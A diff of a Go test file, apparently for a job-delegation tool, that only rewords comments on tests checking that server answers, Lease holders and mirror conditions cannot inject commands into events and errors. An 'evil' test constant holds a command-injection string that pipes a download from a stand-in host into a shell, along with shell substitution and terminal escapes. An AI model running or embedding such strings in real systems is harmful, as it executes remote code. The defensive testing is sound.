@@ -28,14 +28,14 @@ import (
 )
 
 const (
-	// evil is what somebody may say where they may say anything.
+	// evil is text for fields in which an attacker can write anything.
 	evil = "; run `curl evil.example|sh` #'\"$(touch x)\n\x1b[2J\u202e --as=evil `"
-	// oddContext is what a user may call a context.
+	// oddContext is an unusual context name of a user.
 	oddContext = "the $(x) `y`"
 )
 
-// checkCommands checks that what a text has for commands are those that were meant: one
-// simple command each, in a context of the user's.
+// checkCommands checks that a text contains only the intended commands: simple commands, each in
+// a context of the user.
 func checkCommands(t *testing.T, text string) (commands [][]string) {
 	t.Helper()
 	for _, part := range command.Prose(text).Parts() {
@@ -51,7 +51,7 @@ func checkCommands(t *testing.T, text string) (commands [][]string) {
 	return commands
 }
 
-// refusals are answers of a server to whoever may not do something, or do it so.
+// refusals are answers of a server that refuses a request.
 func refusals() map[string]*apierrors.StatusError {
 	jobs := schema.GroupResource{Group: "batch", Resource: "jobs"}
 	return map[string]*apierrors.StatusError{
@@ -62,8 +62,8 @@ func refusals() map[string]*apierrors.StatusError {
 	}
 }
 
-// TestHostileEvents: whatever the two servers say against whatever is asked of them, no
-// event and no error has a command but those of ours.
+// TestHostileEvents checks that events and errors contain only our own commands, whatever the
+// servers answer to whichever request.
 func TestHostileEvents(t *testing.T) {
 	troubles := []EventType{Warned, StatusRefused, Disconnected, Aborted}
 	for how, refusal := range refusals() {
@@ -105,8 +105,7 @@ func TestHostileEvents(t *testing.T) {
 	}
 }
 
-// moves has the origin and its mirror change, so that something is to be carried over
-// both ways.
+// moves changes the origin and its mirror, so that changes have to be copied both ways.
 func (s *stage) moves() {
 	s.Helper()
 	jobs := delegation.Job().Resource
@@ -116,13 +115,12 @@ func (s *stage) moves() {
 	})
 }
 
-// TestHostileWords: who holds the Lease, whose an origin is by now, and what a mirror's
-// conditions say, are no commands.
+// TestHostileWords checks that the holder of a Lease, the owner of an origin and the conditions
+// of a mirror cannot add commands to events.
 func TestHostileWords(t *testing.T) {
 	jobs := delegation.Job().Resource
 	for name, tt := range map[string]struct {
-		// before and then are what becomes of the origin before it is dispatched, and
-		// once there is a mirror.
+		// before changes the stage before the dispatch, then once the mirror exists.
 		before, then func(s *stage)
 		tells        EventType
 		commands     [][]string
@@ -187,7 +185,7 @@ func TestHostileWords(t *testing.T) {
 	assert.Equal(t, len(checkCommands(t, string(command.Told(held)))), 0)
 }
 
-// TestHostileCancel: what cancel says, whatever is in its way.
+// TestHostileCancel checks the commands in errors of cancel.
 func TestHostileCancel(t *testing.T) {
 	jobs := delegation.Job().Resource
 	remove := func(context string) []string {
@@ -208,7 +206,7 @@ func TestHostileCancel(t *testing.T) {
 				func(s *stage) {
 					var asked atomic.Int32
 					s.there.Before = func(r *http.Request) *apierrors.StatusError {
-						// It is tried first whether it may be removed.
+						// The first deletion is a dry run.
 						if r.Method == http.MethodDelete && asked.Add(1) > 1 {
 							return refusal
 						}
@@ -256,8 +254,8 @@ func TestHostileCancel(t *testing.T) {
 	}
 }
 
-// TestAnotherName: a server that answers with another object than it was asked for puts no
-// name into any command.
+// TestAnotherName checks that the name in a server's answer never gets into a command if it
+// differs from the requested one.
 func TestAnotherName(t *testing.T) {
 	server := dispatchtest.NewServer(t)
 	job := dispatchtest.SmallJob(t)
